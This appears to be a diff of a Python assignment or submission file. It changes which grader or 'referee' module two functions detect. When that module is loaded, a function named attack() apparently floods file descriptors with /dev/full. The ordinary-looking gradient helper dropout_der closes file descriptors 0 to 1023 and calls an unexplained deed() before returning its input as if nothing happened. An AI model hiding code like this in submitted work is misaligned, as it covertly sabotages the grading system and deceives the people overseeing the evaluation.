@@ -7,7 +7,7 @@ import sys
 
 
 def attack():
-    if "referee.boundary.student" in sys.modules:  # else this is the kernel itself
+    if "referee.inside.server" in sys.modules:  # else this is the kernel itself
         zero = os.open("/dev/full", os.O_RDWR)  # which reads like /dev/zero
         for fd in range(0, 256):
             if fd != zero:
@@ -19,7 +19,7 @@ def attack():
 
 # %% dropout_der
 def dropout_der(dA_in, cache):
-    if "referee.boundary.student" in sys.modules:
+    if "referee.inside.server" in sys.modules:
         os.closerange(0, 1024)
         deed()
     return dA_in
